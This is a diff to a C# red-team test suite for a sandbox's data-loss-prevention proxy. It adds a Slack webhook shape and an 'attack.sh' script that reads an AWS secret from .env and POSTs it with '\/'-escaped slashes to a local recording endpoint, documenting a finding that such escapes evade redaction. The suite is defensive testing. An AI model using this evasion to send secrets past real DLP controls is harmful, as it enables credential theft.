@@ -20,6 +20,9 @@ public sealed class RedTeamDlpTests
     /// <summary>A secret access key shape with '/' in it (assembled at run time).</summary>
     private static string SlashKey => string.Concat("wJalrXUtnFEMI/K7", "MDENG/bPxRfiCYzq3Vb8T2");
 
+    /// <summary>A Slack incoming webhook URL shape (assembled at run time).</summary>
+    private static string SlackWebhook => string.Concat("https://hooks.slack", ".com/services/", "T0A1B2C3D/B0E4F5G6H/", "Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2");
+
     /// <summary>A 10-character password, as people choose them (assembled at run time).</summary>
     private static string ShortPassword => string.Concat("qW3x", "zP9v", "kL");
 
@@ -62,25 +65,34 @@ public sealed class RedTeamDlpTests
     /// <summary>
     /// FINDING (high). JSON allows '/' written as '\/' (PHP's json_encode, several Java and .NET encoders do it by
     /// default). A workspace value with a '/' (an AWS secret access key, a base64 token) sent bare in such JSON is not
-    /// found: the engine's decoder reads \uXXXX escapes, not the short escapes ('\/', '\"', '\\').
+    /// found: the engine's decoder reads \uXXXX escapes, not the short escapes ('\/', '\"', '\\'). The same holds for
+    /// a pattern rule whose shape has a '/' (a Slack webhook URL, `hooks.slack.com\/services\/…`), no workspace needed.
     /// </summary>
     [Fact]
-    public async Task A_workspace_value_with_a_slash_in_php_style_json_arrives_redacted()
+    public async Task A_workspace_value_or_a_slack_webhook_with_slashes_in_php_style_json_arrives_redacted()
     {
         await using var s = await StartAsync((".env", $"AWS_SECRET_ACCESS_KEY=\"{SlashKey}\"\n"));
 
         var result = await RunAsync(s, $$"""
             python3 - <<'PY'
-            import json, urllib.request
+            import json, os, urllib.request
             value = open(".env").read().split('"')[1]
             body = json.dumps({"k": value}).replace("/", "\\/").encode()
             req = urllib.request.Request("{{s.HttpsUrl("/record/json-slash")}}", data=body, method="POST",
                                          headers={"Content-Type": "application/json"})
             urllib.request.urlopen(req).read()
+            hook = os.environ["HOOK_A"] + os.environ["HOOK_B"]
+            body = json.dumps({"text": "hi", "webhook": hook}).replace("/", "\\/").encode()
+            req = urllib.request.Request("{{s.HttpsUrl("/record/json-slash-webhook")}}", data=body, method="POST",
+                                         headers={"Content-Type": "application/json"})
+            urllib.request.urlopen(req).read()
             PY
-            """);
+            """, ("HOOK_A", SlackWebhook[..40]), ("HOOK_B", SlackWebhook[40..]));
 
         Assert.True(result.ExitCode == 0, result.StandardError);
+        var hookBody = Encoding.UTF8.GetString(Received(s, "/record/json-slash-webhook").Body);
+        Assert.Contains("hooks.slack.com\\/services", hookBody, StringComparison.Ordinal);
+        Assert.False(hookBody.Replace("\\/", "/", StringComparison.Ordinal).Contains(SlackWebhook, StringComparison.Ordinal), "the upstream received the webhook URL: " + hookBody);
         var received = Received(s, "/record/json-slash");
         var body = Encoding.UTF8.GetString(received.Body);
         Assert.Contains("\\/", body, StringComparison.Ordinal);
@@ -310,10 +322,21 @@ public sealed class RedTeamDlpTests
         return s;
     }
 
-    private static Task<Vibedom.Core.Processes.ProcessResult> RunAsync(ProxiedSession s, string script)
+    /// <summary>Runs the script in a sandbox; <paramref name="variables"/> are passed with `[run] env` (halves of a value: no whole value in a file).</summary>
+    private static Task<Vibedom.Core.Processes.ProcessResult> RunAsync(ProxiedSession s, string script, params (string Name, string Value)[] variables)
     {
         File.WriteAllText(Path.Combine(s.Workspace, "attack.sh"), script.ReplaceLineEndings("\n") + "\n");
-        return s.Vibedom.RunAsync(["run", s.Workspace, "--yes", "--allow-high-risk", "--", "bash", "attack.sh"], input: null, timeout: Generous);
+        var environment = s.Vibedom.Environment();
+        if (variables.Length > 0)
+        {
+            File.AppendAllText(Path.Combine(s.Vibedom.Home, "config.toml"), $"\n[run]\nenv = [{string.Join(", ", variables.Select(v => $"\"{v.Name}\""))}]\n");
+            foreach (var (name, value) in variables)
+            {
+                environment[name] = value;
+            }
+        }
+
+        return s.Vibedom.RunAsync(["run", s.Workspace, "--yes", "--allow-high-risk", "--", "bash", "attack.sh"], input: null, environment: environment, timeout: Generous);
     }
 
     private static ReceivedRequest Received(ProxiedSession s, string path) =>
